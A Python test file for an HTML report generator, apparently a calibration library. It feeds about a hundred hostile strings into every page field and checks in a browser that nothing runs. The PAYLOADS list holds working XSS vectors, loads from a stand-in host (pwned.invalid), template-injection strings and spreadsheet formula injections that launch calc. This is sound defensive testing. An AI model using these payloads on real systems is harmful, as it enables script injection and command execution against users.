"""Hostile text in every field of every page, in a real browser: nothing runs, and the page stays what it would be."""

import csv
import json
import os
import re
from contextlib import contextmanager
from dataclasses import replace
from importlib.resources import files
from pathlib import Path
from typing import NamedTuple

import numpy as np
import pytest

from browser import WRITTEN, needs_chromium
from calibrant._border import text
from calibrant.report import render_html
from calibrant.report.experiment import render_experiment
from calibrant.report.page import environment
from calibrant.results import Estimate
from report_cases import (
    Tree,
    advised,
    assessment,
    candidate,
    comparison_of,
    consistency,
    curve,
    dense_curve,
    experiment_of,
    forecast,
    pictured,
    verdict,
)

PAYLOADS = {
    # Elements that run or load something.
    "script": "<script>window.__pwned=1</script>",
    "script in upper case": "<SCRIPT>window.__pwned=1</SCRIPT>",
    "script with a slash": "<script/x>window.__pwned=1</script>",
    "script from elsewhere": '<script src="//pwned.invalid/x.js"></script>',
    "script end": "</script><script>window.__pwned=1</script>",
    "script end with a space": "</script ><script>window.__pwned=1</script >",
    "script in a comment": "<!--<script>window.__pwned=1</script>-->",
    "double escaped script": "<!--<script></script><script>window.__pwned=1</script>",
    "module": '<script type="module">window.__pwned=1</script>',
    "image": '<img src="x" onerror="window.__pwned=1">',
    "image without quotes": "<img src=x onerror=window.__pwned=1>",
    "image with slashes": "<img/src=x/onerror=window.__pwned=1>",
    "image with entities": "<img src=x onerror=&#119;indow.__pwned=1>",
    "picture of a site": '<img src="http://pwned.invalid/x.png">',
    "svg": "<svg onload=window.__pwned=1>",
    "svg script": "<svg><script>window.__pwned=1</script></svg>",
    "svg animation": "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__pwned=1>#x"/></svg>',
    "svg end": "</svg></title></text><img src=x onerror=window.__pwned=1>",
    "mathml": '<math href="javascript:window.__pwned=1">x</math>',
    "mathml with a style": "<math><mtext><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></math>",
    "body": "<body onload=window.__pwned=1>",
    "details": "<details open ontoggle=window.__pwned=1><summary>x</summary></details>",
    "focus": '<input autofocus onfocus="window.__pwned=1">',
    "video": "<video><source onerror=window.__pwned=1></video>",
    "frame": "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    "frame with a url": '<iframe src="javascript:parent.__pwned=1"></iframe>',
    "object": '<object data="data:text/html,<script>window.__pwned=1</script>"></object>',
    "embed": "<embed src=javascript:window.__pwned=1>",
    "form": "<form action=javascript:window.__pwned=1><button autofocus>send</button></form>",
    "base": '<base href="http://pwned.invalid/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=http://pwned.invalid/">',
    "weaker policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
    "style sheet": '<link rel="stylesheet" href="http://pwned.invalid/x.css">',
    "prefetch": '<link rel="dns-prefetch" href="//pwned.invalid">',
    "style": "<style>body{display:none}</style>",
    "style import": "<style>@import url(http://pwned.invalid/x.css);</style>",
    "style end": "</style><style>*{display:none}</style><img src=x onerror=window.__pwned=1>",
    "template element": "<template><img src=x onerror=window.__pwned=1></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "textarea": "</textarea></select></table><img src=x onerror=window.__pwned=1>",
    "table end": "</td></th></tr></tbody></table></div><script>window.__pwned=1</script>",
    "title end": "</title></h1><script>window.__pwned=1</script>",
    "plaintext": "<plaintext>",
    "processing instruction": "<?xml-stylesheet href='javascript:window.__pwned=1'?>",
    "character data": "<![CDATA[><script>window.__pwned=1</script>]]>",
    "open comment": "<!-- --!><img src=x onerror=window.__pwned=1> <!--",
    "unfinished tag": "<img src=x onerror=window.__pwned=1 x=",
    "clobbering": '<a id="data" name="data"></a><form id="tip"><input name="textContent"></form>',
    # Ways out of attributes.
    "double quote": '" autofocus onfocus="window.__pwned=1" x="',
    "single quote": "' autofocus onfocus='window.__pwned=1' x='",
    "end of a tag": '"><img src=x onerror=window.__pwned=1>',
    "end of a tag, single": "'><img src=x onerror=window.__pwned=1>",
    "grave accent": "` onmouseover=window.__pwned=1 x=`",
    "style attribute": '" style="background:url(http://pwned.invalid/x)" x="',
    "css value": "red;background:url(javascript:window.__pwned=1);x:expression(window.__pwned=1)",
    "selector": '"] , [data-series="0"',
    "url": "javascript:window.__pwned=1",
    "url with a tab": "java\tscript:window.__pwned=1",
    "data url": "data:text/html,<script>window.__pwned=1</script>",
    # Ways out of JSON, of JavaScript and of template engines.
    "json string": '"}]};window.__pwned=1;//',
    "json with a backslash": '\\"};window.__pwned=1;//',
    "javascript string": "';window.__pwned=1;'",
    "template literal": "${window.__pwned=1}",
    "jinja": "{{7*7}}{% for x in range(9) %}{{ self.__init__.__globals__ }}{% endfor %}{# x #}",
    "angular": "{{constructor.constructor('window.__pwned=1')()}}",
    "line separators": "a\u2028window.__pwned=1\u2029b",
    "own prototype": "__proto__",
    "constructor": "constructor",
    "to string": "toString",
    "own property": "hasOwnProperty",
    "length": "length",
    # Entities and encodings.
    "entities": "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "entities twice": "&amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
    "entity without a semicolon": "&ltimg src=x onerror=window.__pwned=1&gt",
    "utf-7": "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "full width": "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "percent": "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "half a pair": "half \ud800 a pair <img src=x onerror=window.__pwned=1>",
    "undecodable byte": "caf\udce9",
    "not a character": "end \ufffe\uffff of a plane",
    # What disturbs the reader.
    "nul": "nu\x00l <scr\x00ipt>window.__pwned=1</script>",
    "terminal": "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "line ends": "one\r\ntwo\x0bthree\x0cfour\x85five",
    "backspace": "good\x08\x08\x08\x08bad",
    "reversed": "report\u202efdp.exe",
    "isolated": "\u2066\u2067abc",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "pass\u200bword\u2060\ufeff",
    "tag characters": "plain\U000e0041\U000e0042",
    "right to left": "שלום <b>עולם</b>",
    "emoji": "naïve 👩‍🔬 模型",
    "stacked accents": "Z" + "\u0351" * 40,
    "blank": " \u3000 ",
    "long": "<b>" + "long " * 1000,
    "long without spaces": "x" * 3000 + "<script>window.__pwned=1</script>",
    # What a spreadsheet would run.
    "formula": '=HYPERLINK("http://pwned.invalid","x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula after a space": " =1+1",
    "formula after a line end": "\n=1+1",
    "formula in the next cell": "x;=1+1",
    "formula in full width": "\uff1d1+1",
}  # fmt: skip
HOSTILE = list(PAYLOADS.values())
HARMLESS = [f"word {i}" for i in range(len(HOSTILE))]


FEW = replace(consistency(), null=consistency().null[:9])
"""A test of few redrawn labels: each of them is a row of a table on pages with many tests."""


def turned(words, by):
    """Return the words in another order, so that neighbouring fields hold different ones."""
    by %= len(words)
    return [*words[by:], *words[:by]]


def test_there_are_enough_payloads():
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


def test_templates_escape_everything():
    folder = files("calibrant.report") / "templates"
    templates = [entry for entry in folder.iterdir() if entry.name.endswith(".html")]
    assert len(templates) >= 10
    for template in templates:
        source = template.read_text(encoding="utf-8")
        assert not re.search(r"\|\s*safe\b|autoescape|Markup|\bon[a-z]+=|style=|javascript:", source), template.name
    assert environment().autoescape is True


@pytest.mark.parametrize(
    "source", [render_html(assessment()), render_experiment(experiment_of(["a", "b"]))], ids=["page", "experiment"]
)
def test_the_policy_allows_nothing_but_hashes(source):
    (policy,) = (a["content"] for a, _ in Tree(source).find("meta", http_equiv="Content-Security-Policy"))
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    hashes = {key: rules.pop(key) for key in ("style-src", "script-src")}
    assert rules == {"default-src": "'none'", "base-uri": "'none'", "form-action": "'none'"}
    assert all(re.fullmatch(r"'sha256-[A-Za-z0-9+/]{43}='", value) for value in hashes.values())
    assert source.index("Content-Security-Policy") < source.index("<title>")


# Pages -----------------------------------------------------------------------------------------------------------


def fields_page(words):
    """Return a page in which every list of names holds all words: classes, groups, metrics, settings, tests, ..."""
    metrics = {
        key: Estimate(name=name, value=0.5, details={detail: other})
        for key, name, detail, other in zip(words, turned(words, 1), turned(words, 2), turned(words, 3), strict=True)
    }
    whole = pictured("model", classes=words)
    groups = {
        key: replace(whole, name=key, groups={}, verdict=verdict(code=code))
        for key, code in zip(words, turned(words, 4), strict=True)
    }
    tests = {key: replace(consistency(), name=name) for key, name in zip(words, turned(words, 5), strict=True)}
    settings = dict(zip(words, turned(words, 6), strict=True))
    one = replace(whole, groups=groups, adjusted=dict.fromkeys(words, 0.02), metrics=metrics, tests=tests)
    how = advised("ts", reason="Because.")
    advice = replace(
        how.recommendation,
        reasons=tuple(turned(words, 7)),
        candidates=tuple(candidate(name, 0.5) for name in words),
    )
    return render_html(
        {"model": replace(one, settings=settings)},
        comparison=comparison_of(words, ["nll"]),
        fix=replace(how, recommendation=advice),
    )


def names_page(words):
    """Return a page with an assessment under each name, and with every sentence of each of them."""
    shown = {}
    for name, a, b, c in zip(words, turned(words, 1), turned(words, 2), turned(words, 3), strict=True):
        one = pictured(name, classes=(a, "bee"))
        shown[name] = replace(
            one,
            curves={"isotonic": dense_curve(n_points=5)},
            classwise=None,
            verdict=verdict(code=b, headline=f"Biased: it predicts class {c} too often.", explanation=a),
            test=replace(FEW, name=b),
            curve=replace(curve(n_points=2), kind=c),
            metrics={"nll": Estimate(name=a, value=np.inf, details={"infinite_rows": 3})},
        )
    return render_html(shown, title="Names", comparison=comparison_of(["one", "two"], words))


def forecasts_page(words):
    """Return a page about forecasts whose names, laws, metrics and settings are the words."""
    shown = {}
    for name, a, b, c in zip(words, turned(words, 1), turned(words, 2), turned(words, 3), strict=True):
        one = forecast(name)
        metrics = {"crps": Estimate(name=b, value=0.5)}
        sentences = verdict(code=a, headline=f"Biased: {b}", explanation=c)
        test = replace(FEW, name=c)
        shown[name] = replace(one, law=c, metrics=metrics, verdict=sentences, test=test, settings={"of each": a})
    shown[words[0]] = replace(shown[words[0]], settings=dict(zip(words, turned(words, 4), strict=True)))
    return render_html(shown, title="Forecasts")


def experiment_page(words):
    """Return the page of an experiment whose pipelines, networks, calibrators and settings are the words."""
    return render_experiment(experiment_of(words))


def notebook_page(words):
    """Return a page as a notebook would make it, without any policy, of results whose texts are the words."""
    results = []
    for name, a, b, c in zip(words, turned(words, 1), turned(words, 2), turned(words, 3), strict=True):
        one = assessment(name, classes=(a, "bee", "cat"), metrics={b: 0.5})
        results += [
            replace(one, verdict=verdict(headline=a, explanation=b)),
            Estimate(name=name, value=0.5, details={a: b, "list": [c]}),
            replace(consistency(), name=name, details={a: c}),
            one.classes[0],
            replace(curve(), kind=name),
        ]
    classwise = pictured(classes=words).classwise
    advice = replace(advised().recommendation, reasons=tuple(words), headline=words[0], score=words[1])
    candidates = tuple(candidate(name, 0.5) for name in words)
    result = experiment_of(words)
    results += [classwise, comparison_of(words, words[:5]), replace(advice, candidates=candidates), result.learning[0]]
    shown = [one._repr_html_() for one in [*results, result, *result.pipelines]]
    assert all(shown)
    return f'<!DOCTYPE html><meta charset="utf-8"><title>Notebook</title>{"".join(shown)}'


def single_page(word, other):
    """Return a small page with words where there is only one of a kind: title, fix, baseline."""
    how = replace(advised(), method=other, recommendation=None)
    one = assessment(word, metrics={"nll": 0.35}, test=FEW, curve=curve(n_points=2))
    return render_html({word: one}, title=word, comparison=comparison_of([other, word], ["nll"]), fix=how)


def single_experiment(word, other):
    """Return a small page of an experiment with words where there is only one of a kind."""
    result = experiment_of([word, other])
    learning = replace(result.learning[0], settings={"network": other})
    version = {"version": word, "other": other}
    return render_experiment(replace(result, title=word, data=other, learning=(learning,), settings=version))


# The browser -----------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("security")


@contextmanager
def opened(chromium, folder, source):
    """Open a page from a file without a network; yield it and what is heard of it."""
    path = Path(folder) / "page.html"
    path.write_text(source, encoding="utf-8")
    with chromium.visit(path, offline=True) as visited:
        yield visited


def stays_silent(heard):
    """Tell whether nothing was said, and nothing asked for but the page itself."""
    foreign = [url for url in heard.requests if not url.startswith("file:")]
    return not heard.messages and not foreign and len(heard.requests) == 1


# Everything that text can be hidden in is opened and touched; the rows are the elements with their attributes, without
# the values that hold words, and without what follows from the width of words.
LOOK = r"""(root) => {
  const all = (selector) => Array.from(root.querySelectorAll(selector));
  const touch = () => {
    for (const details of all("details")) details.open = true;
    for (const details of all("[data-sheet]")) details.dispatchEvent(new Event("toggle"));
    const tips = new Map(all("[data-tip]").map((node) => [node.dataset.tip.split("\n")[0], node]));
    for (const node of tips.values()) node.dispatchEvent(new Event("pointerenter"));
    for (const node of all("thead th button")) node.click();
    for (const node of all("input[type=checkbox]")) node.click();
  };
  touch();
  const spoken = new Set(["aria-label", "data-tip", "title", "href", "content", "style", "aria-describedby"]);
  const value = (node, name) => {
    if (name === "href") return node.getAttribute(name).split(":")[0];
    return spoken.has(name) ? "" : node.getAttribute(name);
  };
  const rows = all("*").map((node) => [
    node.nodeName,
    ...node.getAttributeNames().filter((n) => !(n === "tabindex" && node.className === "scroll")).sort()
      .map((name) => `${name}=${value(node, name)}`),
  ].join(" ")).filter((row) => !row.startsWith("SCRIPT ") && !row.startsWith("META content"));
  const texts = [];
  const walker = root.createTreeWalker(root.documentElement, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    if (!["SCRIPT", "STYLE"].includes(walker.currentNode.parentNode.nodeName)) texts.push(walker.currentNode.data);
  }
  for (const node of all("*")) texts.push(...node.getAttributeNames().map((name) => node.getAttribute(name)));
  const view = root.defaultView ?? window;
  return {
    rows,
    unseen: texts.filter((t) => UNSEEN.test(t)).slice(0, 5).map((t) => JSON.stringify(t.slice(0, 200))),
    pwned: view.__pwned ?? null,
    polluted: Object.keys(view.Object.prototype).length,
    hidden: view.getComputedStyle(root.body).display === "none",
    heading: root.querySelector("h1")?.textContent ?? "",
    cells: all("th[scope=row], dt, dd, td, figcaption, .panel-title, .multiple-title, h3 span, li")
      .map((node) => node.textContent.trim()),
  };
}""".replace(
    "UNSEEN",
    r"/[\0-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb\ufffe\uffff]|"
    r"[\ud800-\udbff](?![\udc00-\udfff])|[\u{e0000}-\u{e007f}]/u",
)


def looked(page):
    """Return what the look at a page finds, as one text on its way: thousands of them take longer than the page."""
    return json.loads(page.evaluate(f"JSON.stringify(({LOOK})(document))"))


def is_harmless(found):
    """Tell whether no payload ran or reached an object or a style, and every character can be seen."""
    assert found["unseen"] == []
    return found["pwned"] is None and found["polluted"] == 0 and not found["hidden"]


PARSED = r"(sources, look) => sources.map((source) => look(new DOMParser().parseFromString(source, 'text/html')))"
FRAME = '<!DOCTYPE html><meta charset="utf-8"><title>Frame</title>'
SAME = """({ rows, cells, ...rest }, i, all) => ({
  ...rest,
  cells: Array.from(new Set(cells)),
  size: rows.length,
  differing: rows.filter((row, j) => row !== all[0].rows[j]).slice(0, 5),
})"""


@contextmanager
def holding(chromium, folder, sources):
    """Open an empty page that holds others as JSON: to hand them over in another way takes longer than to read them."""
    held = json.dumps(sources).replace("<", "\\u003c")
    with opened(chromium, folder, f'{FRAME}<script type="application/json">{held}</script>') as visited:
        yield visited


def read_by(chromium, folder, way, sources, form="(one) => one"):
    """Return what the look at each page finds, in a form, if it is read or run in this way."""
    with holding(chromium, folder, sources) as (page, heard):
        found = page.evaluate(
            f"""async () => {{
                const sources = JSON.parse(document.querySelector("script").textContent);
                return JSON.stringify((await ({way})(sources, {LOOK})).map({form}));
            }}"""
        )
        assert page.evaluate("[window, ...Array.from(frames)].every((one) => one.__pwned === undefined)")
        assert set(heard.requests[1:]) <= {"about:blank"}
        assert heard.messages == []
    return json.loads(found)


def compared(chromium, folder, way, *sources):
    """Return what is found on each page; its elements are compared with those of the first page in the browser."""
    return read_by(chromium, folder, way, sources, SAME)


def is_same(found, harmless):
    """Tell whether a page has the elements of the harmless one, to which it was compared."""
    assert found["differing"] == []
    return found["size"] == harmless["size"]


def holds(found, words):
    """Tell whether every word is the whole text of an element."""
    shown = set(found["cells"])
    assert [word for word in words if not {text.name(word), text.name(word, 200)} & shown] == []
    return True


def together(words, limit):
    """Return texts of several words each, as many as a field shows; longer words and names that are a whole stay alone.

    Whatever of a text ran would be noticed, with or without the words behind it.
    """
    found = [""]
    for word in words:
        longer = f"{found[-1]} {word}"
        if len(text.printable(longer)) <= limit and not word.isidentifier():
            found[-1] = longer
        else:
            found.append(word)
    assert all(any(word in one for one in found) for word in words)
    return found


class Fields(NamedTuple):
    """What was found on the page that has every word in every list, and in the files that its links save."""

    found: dict[str, object]
    silent: bool
    sheets: dict[str, list[list[str]]]


@pytest.fixture(scope="module")
def fields(chromium, folder):
    with opened(chromium, folder, fields_page(HOSTILE)) as (page, heard):
        found, silent = looked(page), stays_silent(heard)
        sheets = {}
        for name in ("classes", "groups", "metrics", "differences", "tests"):
            with page.expect_download() as download:
                page.evaluate(f"document.querySelector('[data-name={name}] a[download]').click()")
            with Path(download.value.path()).open(newline="", encoding="utf-8") as file:
                sheets[name] = list(csv.reader(file))
    return Fields(found, silent, sheets)


@needs_chromium
def test_hostile_words_in_every_list_run_nothing_and_leave_the_page_as_it_is(chromium, folder, fields):
    (harmless,) = read_by(chromium, folder, WRITTEN, [fields_page(HARMLESS)])  # It need not be laid out.
    assert fields.silent
    assert is_harmless(fields.found)
    assert is_harmless(harmless)
    assert len(harmless["rows"]) > 1000
    assert fields.found["rows"] == harmless["rows"]
    assert holds(fields.found, HOSTILE)


@needs_chromium
@pytest.mark.parametrize(
    ("build", "texts"),
    {
        experiment_page: HOSTILE,
        notebook_page: HOSTILE,
        # These are large, of parts that the first page has too: each has its share of the texts.
        names_page: together(HOSTILE, 80)[::2],
        forecasts_page: together(HOSTILE, 80)[1::2],
    }.items(),
    ids=["experiment", "notebook", "names", "forecasts"],
)
def test_hostile_names_run_nothing_and_leave_the_page_as_it_is(chromium, folder, build, texts):
    assert len(texts) > 25
    harmless, hostile = compared(chromium, folder, WRITTEN, build(HARMLESS[: len(texts)]), build(texts))
    assert is_harmless(hostile)
    assert is_harmless(harmless)
    assert harmless["size"] > 1000
    assert is_same(hostile, harmless)
    assert holds(hostile, texts)


@needs_chromium
@pytest.mark.parametrize("build", [single_page, single_experiment], ids=lambda build: build.__name__)
def test_hostile_titles_run_nothing_and_leave_the_page_as_it_is(chromium, folder, build):
    """The browser reads one of both pages for every word; it runs one for each of fewer texts that hold all words."""
    texts = together(HOSTILE, 200)
    assert len(texts) < len(HOSTILE) / 2
    alone = HOSTILE[build is single_page :: 2]
    for words, way in ((alone, PARSED), (texts, WRITTEN)):
        sources = [build(*pair) for pair in zip(words, turned(words, 1), strict=True)]
        harmless, *hostile = compared(chromium, folder, way, build("word", "other"), *sources)
        assert harmless["size"] > 300
        assert all(map(is_harmless, hostile))
        assert [one["heading"] for one in hostile] == [text.name(word, limit=200) for word in words]
        assert all(is_same(one, harmless) for one in hostile)


@needs_chromium
def test_the_payloads_would_run_if_they_were_not_escaped(chromium, folder):
    """Some do as parts of a page, others as parts of a page that is there already."""
    elsewhere = ("<base", "refresh", "<iframe", "<object", "<embed", "<video")  # Processes of their own take long.
    texts = [f"<p>{word}</p>" for word in HOSTILE if not any(part in word for part in elsewhere)]
    attributes = [f"<p title={quote}{word}{quote}></p>" for quote in "\"'" for word in HOSTILE if word[0] == quote]
    marked = [source.replace("__pwned=1", f"__pwned_{i}=1") for i, source in enumerate([*texts, *attributes])]
    with holding(chromium, folder, marked) as (page, heard):
        page.evaluate(
            f"""async () => {{
                const sources = JSON.parse(document.querySelector("script").textContent);
                await ({WRITTEN})(sources, () => 0);
                for (const source of sources) {{
                    document.body.append(document.createRange().createContextualFragment(source));
                }}
            }}"""
        )
        names = "[window, frames[0]].flatMap(Object.keys).filter((name) => name.startsWith('__pwned_'))"
        for _ in range(100):  # Some load, or begin a moment later.
            ran = page.evaluate(f"new Set({names}).size")
            asked = [url for url in heard.requests if "pwned.invalid" in url]
            if ran >= 30 and len(asked) >= 4:
                break
            page.wait_for_timeout(50)
    assert ran >= 30
    assert len(asked) >= 4


@needs_chromium
def test_no_cell_of_a_download_is_a_formula(fields):
    sheets = fields.sheets
    for head, *rows in sheets.values():
        assert {len(row) for row in rows} == {len(head)}
        assert not [cell for row in (head, *rows) for cell in row if is_formula(cell)]
    for sheet in ("classes", "groups"):
        rows = zip(sheets[sheet][1:], HOSTILE, strict=True)
        assert [row[1] for row, word in rows if row[1] not in (kept(word), f"'{kept(word)}")] == []
    # A metric without a detail of this name has an empty cell, not what every object inherits.
    column = sheets["metrics"][0].index("details.constructor")
    assert sum(bool(row[column]) for row in sheets["metrics"][1:]) == 1


def kept(word):
    """Return a word as a file in UTF-8 can hold it."""
    return "".join("\ufffd" if "\ud800" <= c <= "\udfff" else c for c in word)


def is_formula(cell):
    """Tell whether a spreadsheet could run the text."""
    bare = cell.lstrip("".join(map(chr, range(0x21))) + "\u200b\ufeff\u3000")
    try:
        float(cell)
    except ValueError:
        return bare[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")
    return False


# Files and columns through the command line ----------------------------------------------------------------------


def is_file_name(word):
    """Tell whether a file system takes the word for a name."""
    return not set("/\0") & set(word) and len(os.fsencode(kept(word))) < 240 and "\ud800" not in word


def test_hostile_file_names_change_no_element(tmp_path, monkeypatch):
    from calibrant import cli

    words = [word for word in HOSTILE if is_file_name(word)][::3]  # Titles of pages are tested with all words.
    assert len(words) >= 14
    monkeypatch.setattr("calibrant.cli.options.reading.EitherSource.either", lambda *_: (None, {}))
    monkeypatch.setattr(
        "calibrant.cli.options.judging.Judging.assess", lambda _, p, name, *words, **more: assessment(name)
    )
    shapes = []
    for name in ("word", *words):
        (tmp_path / name).touch()
        out = tmp_path / "page.html"
        assert cli.main(["report", str(tmp_path / name), "--out", str(out)]) == 0
        tree = Tree(out.read_text(encoding="utf-8"))
        assert tree.find("h1")[0][1] == text.name(f"Calibration of {name}", limit=200)
        shapes.append(tree.shape)
    assert all(shape == shapes[0] for shape in shapes)


def write_columns(path, words):
    """Write predictions of many classes, a column each, with the classes as labels and as groups."""
    import polars as pl

    rng = np.random.default_rng(0)
    probs = rng.dirichlet(np.ones(len(words)), size=2 * len(words))
    columns = {f"p_{word}": probs[:, i] for i, word in enumerate(words)}
    label, group = "label" + words[0], "group" + words[1]
    pl.DataFrame(columns | {label: words * 2, group: (words[:3] * len(words))[: 2 * len(words)]}).write_parquet(path)
    return ["--label", label, "--by", group, "--probs", "p_*", "--resamples", "1", "--quiet"]


@pytest.fixture
def quick_assess(monkeypatch):
    """Put numbers made by hand in place of an assessment: names are what matters here."""

    def stub(predictions, *, name, by=None, **_):
        return assessment(name, classes=tuple(map(str, predictions.classes)), groups=tuple(np.unique(by).tolist()))

    monkeypatch.setattr("calibrant.assessment.assessing.assess", stub)


@needs_chromium
@pytest.mark.usefixtures("quick_assess")
def test_hostile_columns_run_nothing_and_leave_the_page_as_it_is(chromium, folder):
    from calibrant import cli

    hostile = [word for word in HOSTILE if word == kept(word)]
    rows = {}
    for kind, words in (("hostile", hostile), ("harmless", HARMLESS[: len(hostile)])):
        file = Path(folder) / ("<img src=x onerror=__pwned=1>" if kind == "hostile" else "word")
        out = Path(folder) / "columns.html"
        assert cli.main(["report", str(file), *write_columns(file, words), "--out", str(out)]) == 0
        with opened(chromium, folder, out.read_text(encoding="utf-8")) as (page, heard):
            found = looked(page)
            assert stays_silent(heard)
        assert is_harmless(found)
        rows[kind] = found["rows"]
        assert [word for word in words if text.name(word) not in found["cells"]] == []
    assert rows["hostile"] == rows["harmless"]
